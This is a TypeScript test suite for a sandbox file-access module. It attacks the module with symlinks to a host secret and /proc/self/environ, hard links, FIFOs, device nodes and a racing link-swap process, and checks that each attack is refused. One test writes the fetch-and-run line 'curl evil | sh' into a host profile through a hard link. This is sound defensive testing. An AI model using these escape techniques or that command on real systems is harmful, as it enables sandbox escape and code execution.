import { execFile, execFileSync, spawn } from "node:child_process";
import { existsSync, readFileSync } from "node:fs";
import { link, lstat, mkdir, mkdtemp, readFile, readlink, realpath, rm, symlink, truncate, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import ts from "typescript";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { ConfinedDir, ConfinedPathError, isNotFoundError } from "./confined-dir.js";

// Real files, real links, a real FIFO and device node, a real second process
// racing the swaps. "host" is a directory outside the confined root standing
// for the host's own files.

let base: string;
let root: string;
let host: string;
let dir: ConfinedDir;
const SECRET = "HOST-SECRET-xoxb-should-never-be-read";

beforeEach(async () => {
  base = await realpath(await mkdtemp(join(tmpdir(), "confined-")));
  root = join(base, "root");
  host = join(base, "host");
  await mkdir(root);
  await mkdir(host);
  await writeFile(join(host, "secret.txt"), SECRET);
  dir = new ConfinedDir(root, { label: "the test tree" });
});

afterEach(async () => {
  await rm(base, { recursive: true, force: true });
});

async function refusal(promise: Promise<unknown>): Promise<ConfinedPathError> {
  const error = await promise.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(ConfinedPathError);
  return error as ConfinedPathError;
}

/** This module's own source as a plain .mjs, for a child process run with other privileges or mounts. */
async function standaloneModule(): Promise<string> {
  const source = await readFile(fileURLToPath(new URL("./confined-dir.ts", import.meta.url)), "utf8");
  const js = ts.transpileModule(source, { compilerOptions: { module: ts.ModuleKind.ESNext, target: ts.ScriptTarget.ES2022 } }).outputText;
  const path = join(base, "confined-dir.mjs");
  await writeFile(path, js);
  return path;
}

const hostFiles = async () => (await import("node:fs/promises")).readdir(host);

describe("ConfinedDir: positive controls", () => {
  it("reads, appends, replaces, lists, stats, renames and removes regular files inside the root", async () => {
    await dir.mkdirp("a/b");
    await dir.appendFile("a/b/log.jsonl", "one\n");
    await dir.appendFile("a/b/log.jsonl", "two\n");
    expect(await readFile(join(root, "a/b/log.jsonl"), "utf8")).toBe("one\ntwo\n");
    const read = await dir.readFile("a/b/log.jsonl", { maxBytes: 100 });
    expect(read.bytes.toString()).toBe("one\ntwo\n");
    expect(read.truncated).toBe(false);
    await dir.writeFileAtomic("a/b/context.jsonl", "whole\n");
    await dir.writeFileAtomic("a/b/context.jsonl", "replaced\n");
    expect(await readFile(join(root, "a/b/context.jsonl"), "utf8")).toBe("replaced\n");
    expect((await dir.readdir("a/b")).map((e) => `${e.name}:${e.kind}`).sort()).toEqual(["context.jsonl:file", "log.jsonl:file"]);
    expect(await dir.stat("a/b/log.jsonl")).toMatchObject({ kind: "file", size: 8, links: 1 });
    expect(await dir.stat("a/missing")).toBeUndefined();
    await dir.rename("a/b/log.jsonl", "a/moved/log.jsonl", { makeParents: true });
    expect(await readFile(join(root, "a/moved/log.jsonl"), "utf8")).toBe("one\ntwo\n");
    await dir.unlink("a/moved/log.jsonl");
    expect(existsSync(join(root, "a/moved/log.jsonl"))).toBe(false);
    expect((await dir.readdir("")).map((e) => e.name)).toEqual(["a"]);
  });

  it("writes a stream of chunks atomically and leaves the name untouched when the stream fails", async () => {
    async function* chunks(fail: boolean) {
      yield Buffer.from("part one, ");
      if (fail) throw new Error("connection reset");
      yield Buffer.from("part two");
    }
    await dir.writeFileAtomic("file.bin", chunks(false), { makeParents: true });
    expect(await readFile(join(root, "file.bin"), "utf8")).toBe("part one, part two");
    await expect(dir.writeFileAtomic("file.bin", chunks(true))).rejects.toThrow("connection reset");
    expect(await readFile(join(root, "file.bin"), "utf8")).toBe("part one, part two");
    expect((await dir.readdir("")).map((e) => e.name)).toEqual(["file.bin"]); // no temporary file left
  });

  it("reports a missing file with code ENOENT, named by its path in the tree", async () => {
    const error = await dir.readFile("nothing/here.md", { maxBytes: 10 }).catch((e: unknown) => e);
    expect(isNotFoundError(error)).toBe(true);
    expect((error as Error).message).toBe("ENOENT: open of nothing in the test tree failed");
  });

  it("refuses paths that are not plain relative paths", async () => {
    for (const bad of ["/etc/passwd", "../host/secret.txt", "a/../../host/secret.txt", "a//b", "./x"]) {
      expect((await refusal(dir.readFile(bad, { maxBytes: 10 }))).reason).toBe("bad-path");
    }
  });
});

describe("ConfinedDir: a symbolic link in the last component", () => {
  it("never reads a host file through a link named like the file", async () => {
    await symlink(join(host, "secret.txt"), join(root, "MEMORY.md"));
    const error = await refusal(dir.readFile("MEMORY.md", { maxBytes: 1000 }));
    expect(error.reason).toBe("symlink");
    expect(error.message).toBe("refused: MEMORY.md is a symbolic link (made inside the sandbox?); links are not followed in the test tree");
  });

  it("never reads /proc/self/environ through a link (a naive read does)", async () => {
    await symlink("/proc/self/environ", join(root, "MEMORY.md"));
    expect((await readFile(join(root, "MEMORY.md"))).length).toBeGreaterThan(0);
    expect((await refusal(dir.readFile("MEMORY.md", { maxBytes: 1000 }))).reason).toBe("symlink");
  });

  it("never creates or appends to a host file through a dangling link", async () => {
    await symlink(join(host, "created-by-append"), join(root, "log.jsonl"));
    expect((await refusal(dir.appendFile("log.jsonl", "x\n"))).reason).toBe("symlink");
    expect(existsSync(join(host, "created-by-append"))).toBe(false);
    await symlink(join(host, "secret.txt"), join(root, "log2.jsonl"));
    expect((await refusal(dir.appendFile("log2.jsonl", "x\n"))).reason).toBe("symlink");
    expect(await readFile(join(host, "secret.txt"), "utf8")).toBe(SECRET);
  });

  it("replaces a link on atomic write instead of writing the host file it points to", async () => {
    await symlink(join(host, "secret.txt"), join(root, "context.jsonl"));
    await dir.writeFileAtomic("context.jsonl", "new context\n");
    expect(await readFile(join(host, "secret.txt"), "utf8")).toBe(SECRET);
    expect((await lstat(join(root, "context.jsonl"))).isFile()).toBe(true);
    expect(await readFile(join(root, "context.jsonl"), "utf8")).toBe("new context\n");
  });

  it("refuses to list, or create inside, a directory that is a link", async () => {
    await symlink(host, join(root, "skills"));
    expect((await refusal(dir.readdir("skills"))).reason).toBe("symlink");
    expect((await refusal(dir.mkdirp("skills"))).reason).toBe("symlink");
    expect((await refusal(dir.mkdirp("skills/x"))).reason).toBe("symlink");
    expect(await hostFiles()).toEqual(["secret.txt"]);
  });

  it("removes, renames and stats the link itself, never its target", async () => {
    await symlink(join(host, "secret.txt"), join(root, "a.json"));
    expect(await dir.stat("a.json")).toMatchObject({ kind: "symlink" });
    await dir.rename("a.json", "invalid/a.json", { makeParents: true });
    expect(await readlink(join(root, "invalid/a.json"))).toBe(join(host, "secret.txt"));
    await dir.unlink("invalid/a.json");
    expect(existsSync(join(root, "invalid/a.json"))).toBe(false);
    expect(await readFile(join(host, "secret.txt"), "utf8")).toBe(SECRET);
  });
});

describe("ConfinedDir: a symbolic link in a parent", () => {
  // Each position of a three-level path: the link is made at that level and
  // points at the host directory, which holds a file of the same name.
  const levels = ["C1", "C1/skills", "C1/skills/x"];
  for (const [index, linked] of levels.entries()) {
    it(`never reads, appends, writes, lists or creates through ${linked} as a link`, async () => {
      if (index > 0) await dir.mkdirp(levels[index - 1]!);
      await symlink(host, join(root, linked));
      await writeFile(join(host, "SKILL.md"), SECRET);
      await mkdir(join(host, "skills", "x"), { recursive: true });
      await mkdir(join(host, "x"), { recursive: true });
      const file = "C1/skills/x/SKILL.md";
      const before = execFileSync("find", [host]).toString();
      for (const attempt of [
        () => dir.readFile(file, { maxBytes: 1000 }),
        () => dir.appendFile(file, "appended"),
        () => dir.appendFile("C1/skills/x/new.txt", "appended", { makeParents: true }),
        () => dir.writeFileAtomic(file, "replaced", { makeParents: true }),
        () => dir.readdir("C1/skills/x"),
        () => dir.mkdirp("C1/skills/x/deeper"),
        () => dir.stat(file),
        () => dir.unlink(file),
        () => dir.rename(file, "elsewhere.md"),
      ]) {
        const error = await refusal(attempt());
        expect(error.reason).toBe("symlink");
        expect(error.path).toBe(linked);
      }
      expect(execFileSync("find", [host]).toString()).toBe(before);
      expect(await readFile(join(host, "SKILL.md"), "utf8")).toBe(SECRET);
    });
  }

  it("refuses a parent that is a regular file, saying so", async () => {
    await writeFile(join(root, "C1"), "not a dir");
    const error = await refusal(dir.readFile("C1/MEMORY.md", { maxBytes: 10 }));
    expect(error.message).toBe("refused: C1 in the test tree is a regular file, not a directory");
  });
});

describe("ConfinedDir: files that are not regular", () => {
  it("refuses a FIFO at once instead of blocking on it (read and append)", async () => {
    execFileSync("mkfifo", [join(root, "MEMORY.md")]);
    const started = Date.now();
    const error = await refusal(dir.readFile("MEMORY.md", { maxBytes: 1000 }));
    expect(error.message).toBe("refused: MEMORY.md in the test tree is a named pipe (FIFO), not a regular file; only regular files are read or written");
    expect((await refusal(dir.appendFile("MEMORY.md", "x"))).reason).toBe("not-a-file");
    expect(Date.now() - started).toBeLessThan(2000);
  });

  it("never reads a device node made in the tree", async () => {
    execFileSync("mknod", [join(root, "MEMORY.md"), "c", "1", "5"]); // /dev/zero
    expect((await lstat(join(root, "MEMORY.md"))).isCharacterDevice()).toBe(true);
    const error = await refusal(dir.readFile("MEMORY.md", { maxBytes: 1000 }));
    expect(error.message).toContain("is a device, not a regular file");
    expect((await refusal(dir.appendFile("MEMORY.md", "x"))).reason).toBe("not-a-file");
  });

  it("refuses a directory where a file is expected", async () => {
    await mkdir(join(root, "log.jsonl"));
    expect((await refusal(dir.readFile("log.jsonl", { maxBytes: 10 }))).message).toContain("is a directory, not a regular file");
  });
});

describe("ConfinedDir: sizes and hard links", () => {
  it("reads at most maxBytes of a 10 GB file and says it was cut", async () => {
    await writeFile(join(root, "MEMORY.md"), "");
    await truncate(join(root, "MEMORY.md"), 10 * 1024 ** 3); // sparse: no disk used
    const before = process.memoryUsage().rss;
    const read = await dir.readFile("MEMORY.md", { maxBytes: 64 * 1024 });
    expect(read.bytes.length).toBe(64 * 1024);
    expect(read.truncated).toBe(true);
    expect(read.size).toBe(10 * 1024 ** 3);
    expect(process.memoryUsage().rss - before).toBeLessThan(200 * 1024 * 1024);
  });

  it("keeps the end of a file with from: end", async () => {
    await writeFile(join(root, "log.jsonl"), "first\nsecond\nthird\n");
    const read = await dir.readFile("log.jsonl", { maxBytes: 6, from: "end" });
    expect(read.bytes.toString()).toBe("third\n");
    expect(read.truncated).toBe(true);
    const whole = await dir.readFile("log.jsonl", { maxBytes: 19 });
    expect(whole.truncated).toBe(false);
  });

  it("refuses to append to a file with a second hard link, leaving the other name unchanged", async () => {
    await writeFile(join(host, "profile"), "export SAFE=1\n");
    await link(join(host, "profile"), join(root, "log.jsonl"));
    const error = await refusal(dir.appendFile("log.jsonl", "curl evil | sh\n"));
    expect(error.reason).toBe("hard-linked");
    expect(await readFile(join(host, "profile"), "utf8")).toBe("export SAFE=1\n");
    // Positive control: once it is a file of its own, appends work.
    await rm(join(root, "log.jsonl"));
    await dir.appendFile("log.jsonl", "ok\n");
    expect(await readFile(join(root, "log.jsonl"), "utf8")).toBe("ok\n");
  });
});

describe("ConfinedDir: links swapped in while it works (TOCTOU)", () => {
  /**
   * A second process swaps `C1` between a real directory and a link to the
   * host directory (and `C1/MEMORY.md` between a file and a link to the
   * secret) as fast as it can, while this process reads and appends.
   */
  function startSwapper(): { stop: () => Promise<void> } {
    const script = `
      const fs = require("fs");
      const [root, host] = process.argv.slice(1);
      const c = root + "/C1", real = root + "/C1.real";
      const end = Date.now() + 20000;
      while (Date.now() < end) {
        try { fs.renameSync(c, real); } catch {}
        try { fs.symlinkSync(host, c); } catch {}
        try { fs.unlinkSync(c); } catch {}
        try { fs.renameSync(real, c); } catch {}
        try { if (!fs.lstatSync(c).isDirectory()) continue; } catch { continue; }
        try { fs.unlinkSync(c + "/MEMORY.md"); fs.symlinkSync(host + "/secret.txt", c + "/MEMORY.md"); } catch {}
        try { fs.unlinkSync(c + "/MEMORY.md"); fs.writeFileSync(c + "/MEMORY.md", "real memory"); } catch {}
      }`;
    const child = spawn(process.execPath, ["-e", script, root, host], { stdio: "ignore" });
    return {
      stop: () =>
        new Promise((resolve) => {
          child.once("exit", () => resolve());
          child.kill("SIGKILL");
        }),
    };
  }

  it("never reads the host file nor writes into the host directory, while a naive reader does", async () => {
    await mkdir(join(root, "C1"));
    await writeFile(join(root, "C1", "MEMORY.md"), "real memory");
    await writeFile(join(host, "MEMORY.md"), SECRET);
    const swapper = startSwapper();
    let confinedReads = 0;
    let naiveLeaks = 0;
    try {
      const end = Date.now() + 4000;
      while (Date.now() < end) {
        const read = await dir.readFile("C1/MEMORY.md", { maxBytes: 1000 }).catch(() => undefined);
        if (read) {
          expect(read.bytes.toString()).not.toContain(SECRET);
          confinedReads += 1;
        }
        await dir.appendFile("C1/log.jsonl", "line\n").catch(() => undefined);
        await dir.writeFileAtomic("C1/context.jsonl", "context\n").catch(() => undefined);
        // Positive control: the same read done naively follows a swapped-in link.
        const naive = await readFile(join(root, "C1", "MEMORY.md"), "utf8").catch(() => "");
        if (naive.includes(SECRET)) naiveLeaks += 1;
      }
    } finally {
      await swapper.stop();
    }
    expect(naiveLeaks).toBeGreaterThan(0);
    expect(confinedReads).toBeGreaterThan(0);
    expect((await hostFiles()).sort()).toEqual(["MEMORY.md", "secret.txt"]);
    expect(readFileSync(join(host, "MEMORY.md"), "utf8")).toBe(SECRET);
    expect(readFileSync(join(host, "secret.txt"), "utf8")).toBe(SECRET);
  });
});

describe("ConfinedDir without /proc/self/fd", () => {
  it("fails closed with a clear error instead of falling back to following links", async () => {
    // This module's own source, run in a mount namespace whose /proc is an empty tmpfs (as on a system without it).
    await writeFile(join(root, "MEMORY.md"), "plain memory");
    const script = `
      const { ConfinedDir } = await import(${JSON.stringify(await standaloneModule())});
      const dir = new ConfinedDir(${JSON.stringify(root)}, { label: "the test tree" });
      for (const attempt of [() => dir.readFile("MEMORY.md", { maxBytes: 100 }), () => dir.appendFile("log.jsonl", "x")]) {
        try { await attempt(); console.log("SUCCEEDED"); } catch (error) { console.log(error.reason + ": " + error.message); }
      }`;
    await writeFile(join(base, "attempt.mjs"), script);
    const node = `exec '${process.execPath}' '${join(base, "attempt.mjs")}'`;
    const run = (withoutProc: boolean) =>
      new Promise<string>((resolve) => {
        const command = withoutProc ? `mount -t tmpfs none /proc && ${node}` : node;
        execFile("unshare", ["--mount", "--propagation", "private", "sh", "-c", command], (error, stdout, stderr) =>
          resolve(`${stdout}${error ? stderr : ""}`),
        );
      });
    // Positive control: the same code with /proc reads and appends.
    expect(await run(false)).toBe("SUCCEEDED\nSUCCEEDED\n");
    const lines = (await run(true)).trim().split("\n");
    expect(lines).toHaveLength(2);
    for (const line of lines) {
      expect(line).toBe(
        `unsupported: refused: the test tree (${root}) cannot be used safely here: it needs Linux's /proc/self/fd to open files without following links made in the sandbox; run on Linux (or in a Linux container) with /proc mounted`,
      );
    }
  });
});

describe("ConfinedDir and permissions changed in the sandbox", () => {
  it("refuses a file or directory made unreadable (chmod 000) with a ConfinedPathError, so callers that go on after a refusal never stop on one", async () => {
    // The tests run as root, which ignores modes: the attempt runs without any capability (as mom's ordinary user would be).
    await mkdir(join(root, "C1"));
    await writeFile(join(root, "C1", "context.jsonl"), "{}\n");
    await writeFile(join(root, "MEMORY.md"), "plain memory");
    await mkdir(join(root, "C2"));
    await writeFile(join(root, "C2", "log.jsonl"), "");
    const script = `
      const { ConfinedDir } = await import(${JSON.stringify(await standaloneModule())});
      const dir = new ConfinedDir(process.argv[2], { label: "the test tree" });
      const attempts = [
        () => dir.readFile("MEMORY.md", { maxBytes: 100 }),
        () => dir.readFile("C1/context.jsonl", { maxBytes: 100 }),
        () => dir.appendFile("C1/context.jsonl", "x"),
        () => dir.appendFile("C2/log.jsonl", "x"),
        () => dir.readdir("C2"),
      ];
      for (const attempt of attempts) {
        try { await attempt(); console.log("SUCCEEDED"); } catch (error) { console.log((error.name === "ConfinedPathError" ? error.reason : "THROWN " + error.code) + " " + (error.path ?? "")); }
      }`;
    await writeFile(join(base, "attempt.mjs"), script);
    const run = () =>
      new Promise<string>((resolve) => {
        execFile("setpriv", ["--inh-caps=-all", "--bounding-set=-all", process.execPath, join(base, "attempt.mjs"), root], (error, stdout, stderr) =>
          resolve(`${stdout}${error ? stderr : ""}`),
        );
      });
    // Positive control: the same process reads and writes all of them while the modes are ordinary.
    expect(await run()).toBe("SUCCEEDED\n".repeat(5));
    execFileSync("chmod", ["000", join(root, "MEMORY.md"), join(root, "C1", "context.jsonl"), join(root, "C2")]);
    expect((await run()).trim().split("\n")).toEqual([
      "permission-denied MEMORY.md",
      "permission-denied C1/context.jsonl",
      "permission-denied C1/context.jsonl",
      "permission-denied C2",
      "permission-denied C2",
    ]);
    // The data directory's root itself made unreadable.
    execFileSync("chmod", ["755", join(root, "C2")]);
    execFileSync("chmod", ["000", root]);
    expect((await run()).trim().split("\n")).toEqual(Array(5).fill("permission-denied ."));
    execFileSync("chmod", ["755", root]);
  });
});
